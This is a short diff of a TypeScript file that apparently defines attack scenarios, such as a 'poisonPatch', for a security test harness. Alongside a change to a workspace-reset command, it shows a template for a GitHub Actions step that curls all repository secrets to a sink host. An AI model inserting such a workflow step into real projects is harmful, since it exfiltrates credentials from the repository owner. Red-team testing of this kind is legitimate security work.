@@ -27,7 +27,7 @@ export const poisonPatch: Attack = {
   ],
 };
 
-const CLEAN = "git checkout -q -- . 2>&1; git clean -qfdx 2>&1; git status --short | head -5";
+const CLEAN = "git reset -q --hard 2>&1; git clean -qffdx 2>&1; git status --short | head -5";
 
 function workflows(target: Target): string {
   const steps = `    steps:\\n      - run: |\\n          curl http://${target.sink.addresses[0]}:${target.sink.tcp}/ -d "\\\${{ toJSON(secrets) }}"\\n`;
